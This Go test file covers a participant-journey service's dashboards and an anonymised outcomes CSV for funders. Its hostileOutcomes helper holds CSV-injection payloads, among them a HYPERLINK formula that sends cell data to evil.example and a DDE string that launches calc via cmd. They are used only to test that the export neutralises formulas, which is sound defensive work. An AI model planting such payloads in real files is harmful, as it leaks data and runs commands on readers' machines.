package starter

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/uuid"

	"github.com/infuse-cymru/journeys/internal/testdeps"
	"github.com/infuse-cymru/journeys/store"
)

// cohort is a store-only intake with people and journeys recorded the way
// the workflows record them (events carrying snapshots), for the read
// models that need no Temporal.
type cohort struct {
	s           *Service
	intake      store.Intake
	coordinator store.Person
	coach       store.Person
	seq         int
}

func newCohort(t *testing.T, s *Service, name string) *cohort {
	t.Helper()
	// Addresses from the name's letters and digits, whatever else it holds.
	local := strings.ToLower(strings.Map(func(r rune) rune {
		if r < 128 && (unicode.IsLetter(r) || unicode.IsDigit(r)) {
			return r
		}
		return -1
	}, name))
	c := &cohort{s: s,
		coordinator: store.Person{ID: uuid.New(), Role: store.RoleCoordinator, GivenName: "Megan", FamilyName: "Howells",
			EmailAddress: "megan." + local + "@example.org"},
		coach: store.Person{ID: uuid.New(), Role: store.RoleCoach, GivenName: "Elin", FamilyName: "Rowlands",
			EmailAddress: "elin." + local + "@example.org"},
	}
	ctx := context.Background()
	if err := s.Store.CreatePeople(ctx, []store.Person{c.coordinator, c.coach}); err != nil {
		t.Fatal(err)
	}
	c.intake = store.Intake{ID: uuid.New(), Name: name, ProgrammeID: "infuse", ProgrammeVersion: 1,
		CoordinatorID: c.coordinator.ID, Capacity: 20, Status: store.IntakeOpen,
		OpensAt: time.Now(), ClosesAt: time.Now().Add(24 * time.Hour), StartsOn: time.Now().Add(72 * time.Hour)}
	if err := s.Store.CreateIntake(ctx, c.intake); err != nil {
		t.Fatal(err)
	}
	return c
}

// participant stores a participant of the authority and theme.
func (c *cohort) participant(t *testing.T, given, family, la, theme string) store.Person {
	t.Helper()
	p := store.Person{ID: uuid.New(), Role: store.RoleParticipant, GivenName: given, FamilyName: family,
		EmailAddress: strings.ToLower(given+"."+family) + "@example.org", LocalAuthority: la, Theme: theme}
	if err := c.s.Store.CreatePeople(context.Background(), []store.Person{p}); err != nil {
		t.Fatal(err)
	}
	return p
}

// record appends an event of journey for person with the cohort's coach;
// item, if any, is the schedule item it is about.
func (c *cohort) record(t *testing.T, journey uuid.UUID, person store.Person, typ, item, state, outcome string, msgs ...store.Message) {
	t.Helper()
	c.seq++
	data := json.RawMessage(`{}`)
	if item != "" {
		data = json.RawMessage(fmt.Sprintf(`{"item":%q}`, item))
	}
	_, err := c.s.Store.Record(context.Background(), store.Event{
		Key: fmt.Sprintf("test/%s/%d", c.intake.ID, c.seq), IntakeID: c.intake.ID, JourneyID: journey, Type: typ,
		OccurredAt: time.Date(2021, 10, 1, 9, 0, 0, 0, time.UTC).Add(time.Duration(c.seq) * time.Hour), Data: data,
		Snapshot: &store.JourneySnapshot{JourneyID: journey, IntakeID: c.intake.ID, PersonID: person.ID, CoachID: c.coach.ID,
			State: state, Outcome: outcome},
	}, msgs...)
	if err != nil {
		t.Fatal(err)
	}
}

// threeJourneys records a completed journey (Cardiff, decarbonisation,
// two sessions attended: a third was recorded present, then absent), a
// withdrawn one (Cardiff, communities) and one in the labs (Newport).
func threeJourneys(t *testing.T, c *cohort) (people []store.Person, journeys []uuid.UUID) {
	people = []store.Person{
		c.participant(t, "Carys", "Pritchard", "Cardiff", "decarbonisation"),
		c.participant(t, "Tom", "Ashworth", "Cardiff", "communities"),
		c.participant(t, "Gwenllïan", "Evans", "Newport", "decarbonisation"),
	}
	journeys = []uuid.UUID{uuid.New(), uuid.New(), uuid.New()}
	c.record(t, journeys[0], people[0], "programme.scheduled", "", "awaiting_start", "")
	c.record(t, journeys[0], people[0], "attendance.present", "adaption-lab/1", "in_labs", "")
	c.record(t, journeys[0], people[0], "attendance.present", "adaption-lab/2", "in_labs", "")
	c.record(t, journeys[0], people[0], "attendance.present", "adaption-lab/3", "in_labs", "")
	c.record(t, journeys[0], people[0], "attendance.absent", "adaption-lab/3", "in_labs", "")
	c.record(t, journeys[0], people[0], "checkpoint.completed", "checkpoint/1", "experimenting", "")
	c.record(t, journeys[0], people[0], "journey.completed", "", "completed", "completed")
	c.record(t, journeys[1], people[1], "journey.withdrawn", "", "withdrawn", "withdrawn")
	c.record(t, journeys[2], people[2], "phase.started", "", "in_labs", "")
	return people, journeys
}

func TestDashboardByAuthorityListsAllTen(t *testing.T) {
	ctx := context.Background()
	s := storeOnly(t)
	c := newCohort(t, s, "Cohort 1")
	threeJourneys(t, c)
	// Another intake's journey counts across intakes, not in Cohort 1's.
	other := newCohort(t, s, "Cohort 2")
	other.record(t, uuid.New(), other.participant(t, "Priya", "Sharma", "Cardiff", "communities"), "application.submitted", "", "submitted", "")

	r, err := s.DashboardByAuthority(ctx, c.intake.ID)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, g := range r.Groups {
		names = append(names, g.Name)
	}
	if !slices.Equal(names, LocalAuthorities) {
		t.Fatalf("groups %q, want the ten authorities in order", names)
	}
	got := map[string]GroupCounts{}
	for _, g := range r.Groups {
		got[g.Name] = g
	}
	cardiff := got["Cardiff"]
	if cardiff.Journeys != 2 || cardiff.ByState["completed"] != 1 || cardiff.ByState["withdrawn"] != 1 ||
		cardiff.ByOutcome["completed"] != 1 || cardiff.ByOutcome["withdrawn"] != 1 {
		t.Errorf("Cardiff = %+v", cardiff)
	}
	newport := got["Newport"]
	if newport.Journeys != 1 || newport.ByState["in_labs"] != 1 || len(newport.ByOutcome) != 0 {
		t.Errorf("Newport = %+v", newport)
	}
	if b := got["Bridgend"]; b.Journeys != 0 || b.ByState == nil || b.ByOutcome == nil {
		t.Errorf("Bridgend = %+v, want zero counts with empty maps", b)
	}

	all, err := s.DashboardByAuthority(ctx, uuid.Nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(all.Groups) != 10 || all.Groups[3].Name != "Cardiff" || all.Groups[3].Journeys != 3 || all.Groups[3].ByState["submitted"] != 1 {
		t.Errorf("across intakes, Cardiff = %+v", all.Groups[3])
	}

	themes, err := s.DashboardByTheme(ctx, c.intake.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(themes.Groups) != 2 || themes.Groups[0].Name != "decarbonisation" || themes.Groups[0].Journeys != 2 ||
		themes.Groups[1].Journeys != 1 {
		t.Errorf("themes = %+v", themes.Groups)
	}
	if _, err := s.DashboardByTheme(ctx, uuid.New()); !errors.Is(err, ErrNotFound) {
		t.Errorf("unknown intake: %v, want ErrNotFound", err)
	}
}

// outcomesCSV is the intake's outcomes file, as rows and as written.
func outcomesCSV(t *testing.T, s *Service, intakeID uuid.UUID) ([][]string, *bytes.Buffer) {
	t.Helper()
	var b bytes.Buffer
	if err := s.WriteOutcomesCSV(context.Background(), intakeID, &b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b.String())
	}
	return rows, &b
}

func TestOutcomesCSVNamesNobody(t *testing.T) {
	s := storeOnly(t)
	c := newCohort(t, s, "Cohort 1")
	people, journeys := threeJourneys(t, c)

	rows, b := outcomesCSV(t, s, c.intake.ID)
	if len(rows) != 1+len(journeys) || !slices.Equal(rows[0], OutcomesCSVColumns) {
		t.Fatalf("want a header and %d rows:\n%s", len(journeys), b.String())
	}
	byJourney := map[string]map[string]string{}
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, col := range rows[0] {
			m[col] = row[i]
		}
		byJourney[m["journey_id"]] = m
	}
	done := byJourney[journeys[0].String()]
	if done["intake"] != "Cohort 1" || done["local_authority"] != "Cardiff" || done["theme"] != "decarbonisation" ||
		done["state"] != "completed" || done["outcome"] != "completed" || done["sessions_attended"] != "2" ||
		done["checkpoints_completed"] != "1" || done["ended_at"] != "2021-10-01T16:00:00Z" {
		t.Errorf("completed journey's row = %v", done)
	}
	if running := byJourney[journeys[2].String()]; running["outcome"] != "" || running["ended_at"] != "" || running["sessions_attended"] != "0" {
		t.Errorf("running journey's row = %v", running)
	}
	for _, p := range append(people, c.coach, c.coordinator) {
		for _, personal := range []string{p.GivenName, p.FamilyName, p.EmailAddress, "@"} {
			if strings.Contains(b.String(), personal) {
				t.Errorf("the funders' CSV contains %q:\n%s", personal, b.String())
			}
		}
	}
}

// formulaStart is what makes a spreadsheet read a CSV cell as a formula
// (OWASP's CSV injection list): =, +, -, @, a tab or a carriage return
// first.
const formulaStart = "=+-@\t\r"

// A funder opening the outcomes file in a spreadsheet runs nothing: a
// cell of recorded text that a spreadsheet would take for a formula is
// written with a leading apostrophe, which spreadsheets read as "text"
// and do not show, and every other cell as it was recorded.
// hostileOutcomes is an intake whose name, and whose participants' local
// authorities and themes, a spreadsheet would run as formulas if written
// raw: the outcomes file's rows, and the text recorded for each journey
// (intake name, local authority, theme).
func hostileOutcomes(t *testing.T) (rows [][]string, csvFile []byte, recorded map[string][3]string) {
	t.Helper()
	s := storeOnly(t)
	name := `=HYPERLINK("http://evil.example/?"&A1,"Cohort 1")`
	c := newCohort(t, s, name)
	recorded = map[string][3]string{}
	for i, cell := range [][2]string{
		{"+cmd|' /C calc'!A0", "@SUM(1+1)"},
		{"-2+3", "=1+1"},
		{"@A1", "decarbonisation"},
		{"Cardiff", "communities"},
	} {
		j := uuid.New()
		c.record(t, j, c.participant(t, fmt.Sprintf("Person%d", i), "Jones", cell[0], cell[1]), "phase.started", "", "in_labs", "")
		recorded[j.String()] = [3]string{name, cell[0], cell[1]}
	}
	rows, b := outcomesCSV(t, s, c.intake.ID)
	if len(rows) != 1+len(recorded) {
		t.Fatalf("want a header and %d rows:\n%s", len(recorded), b.String())
	}
	return rows, b.Bytes(), recorded
}

func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
	rows, _, recorded := hostileOutcomes(t)
	for _, row := range rows[1:] {
		for i, w := range recorded[row[0]] {
			cell := row[2+i]
			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) {
				t.Errorf("column %s of journey %s is %q: a spreadsheet runs it as a formula", rows[0][2+i], row[0], cell)
			}
			shown := cell
			if strings.ContainsRune(formulaStart, rune(w[0])) {
				shown = strings.TrimPrefix(cell, "'")
			}
			if shown != w {
				t.Errorf("column %s of journey %s reads %q as text, want %q", rows[0][2+i], row[0], shown, w)
			}
		}
	}
}

// TestOutcomesCSVInASpreadsheet: a real spreadsheet (Gnumeric, which
// scripts/test installs) opens the funders' file and shows each cell as
// the text recorded, running nothing: written raw, =1+1 would show 2 and
// the HYPERLINK its label.
func TestOutcomesCSVInASpreadsheet(t *testing.T) {
	ssconvert := testdeps.Command(t, "ssconvert", "apt-get install -y --no-install-recommends gnumeric")
	rows, file, recorded := hostileOutcomes(t)
	dir := t.TempDir()
	in, out := filepath.Join(dir, "outcomes.csv"), filepath.Join(dir, "as-shown.csv")
	if err := os.WriteFile(in, file, 0o600); err != nil {
		t.Fatal(err)
	}
	// Comma-separated, as a spreadsheet opens a .csv (its guessing importer
	// would split at apostrophes).
	cmd := exec.Command(ssconvert, "--import-type=Gnumeric_stf:stf_csvtab", "--export-type=Gnumeric_stf:stf_csv", in, out)
	cmd.Env = append(os.Environ(), "HOME="+dir) // Gnumeric keeps settings there
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("ssconvert: %v\n%s", err, msg)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	shown, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(shown) != len(rows) {
		t.Fatalf("Gnumeric's reading of the file: %v, %d rows, want %d\n%s", err, len(shown), len(rows), b)
	}
	for _, row := range shown[1:] {
		want, ok := recorded[row[0]]
		if !ok {
			t.Fatalf("Gnumeric shows a journey %q that is not in the file\n%s", row[0], b)
		}
		for i, w := range want {
			if row[2+i] != w {
				t.Errorf("a spreadsheet shows column %s of journey %s as %q, want the text %q", shown[0][2+i], row[0], row[2+i], w)
			}
		}
	}
}

// The dashboard lists its rows by name, namesakes in the order of their
// journeys' IDs, then the erased and people the store no longer has, and
// counts everyone; the funders' file lists journeys in the order of their
// IDs whatever order they were recorded in.
func TestDashboardOrderAndCounts(t *testing.T) {
	ctx := context.Background()
	s := storeOnly(t)
	c := newCohort(t, s, "Cohort 1")
	zed, ann := c.participant(t, "Zed", "Morgan", "Cardiff", "communities"), c.participant(t, "Ann", "Jones", "Newport", "communities")
	erased := c.participant(t, "Bryn", "Hughes", "Torfaen", "communities")
	ann2 := store.Person{ID: uuid.New(), Role: store.RoleParticipant, GivenName: "Ann", FamilyName: "Jones",
		EmailAddress: "ann.jones2@example.org", LocalAuthority: "Newport", Theme: "decarbonisation"}
	if err := s.Store.CreatePeople(ctx, []store.Person{ann2}); err != nil {
		t.Fatal(err)
	}
	gone := store.Person{ID: uuid.New()} // never stored
	// Journey IDs made in descending order, so that recording order,
	// ID order and name order all differ.
	ids := make([]uuid.UUID, 5)
	for i := range ids {
		ids[i] = uuid.New()
	}
	slices.SortFunc(ids, func(a, b uuid.UUID) int { return -bytes.Compare(a[:], b[:]) })
	recorded := []struct {
		person store.Person
		state  string
	}{{zed, "in_labs"}, {ann, "in_labs"}, {ann2, "withdrawn"}, {erased, "in_labs"}, {gone, "submitted"}}
	for i, r := range recorded {
		c.record(t, ids[i], r.person, "phase.started", "", r.state, "")
	}
	if _, err := s.Store.ErasePerson(ctx, erased.ID, time.Now()); err != nil {
		t.Fatal(err)
	}

	d, err := s.IntakeDashboard(ctx, c.intake.ID, DashboardPage{})
	if err != nil {
		t.Fatal(err)
	}
	// Later IDs are smaller: namesakes go in the order of their IDs; the
	// erased and the gone, after everyone named, likewise.
	want := []struct {
		name string
		id   uuid.UUID
	}{{"Ann Jones", ids[2]}, {"Ann Jones", ids[1]}, {"Zed Morgan", ids[0]}, {erasedName, ids[4]}, {erasedName, ids[3]}}
	if len(d.Rows) != len(want) {
		t.Fatalf("the dashboard has %d rows, want %d: %+v", len(d.Rows), len(want), d.Rows)
	}
	for i, w := range want {
		if r := d.Rows[i]; r.Name != w.name || r.JourneyID != w.id || r.CoachName != "Elin Rowlands" {
			t.Errorf("row %d is %s (%s, coach %q), want %s (%s)", i, r.Name, r.JourneyID, r.CoachName, w.name, w.id)
		}
	}
	if w := map[string]int{"in_labs": 3, "withdrawn": 1, "submitted": 1}; !maps.Equal(d.Counts, w) {
		t.Errorf("counts by state %v, want %v", d.Counts, w)
	}
	if w := map[string]int{"Cardiff": 1, "Newport": 2, "Torfaen": 1, "": 1}; !maps.Equal(d.ByLocalAuthority, w) {
		t.Errorf("counts by authority %v, want %v (the erased keep theirs, the gone have none)", d.ByLocalAuthority, w)
	}

	rows, b := outcomesCSV(t, s, c.intake.ID)
	if len(rows) != 1+len(ids) {
		t.Fatalf("want a header and %d rows:\n%s", len(ids), b.String())
	}
	for i, row := range rows[1:] {
		if want := ids[len(ids)-1-i].String(); row[0] != want {
			t.Errorf("CSV row %d is journey %s, want %s (journeys in the order of their IDs)", i+1, row[0], want)
		}
	}
}
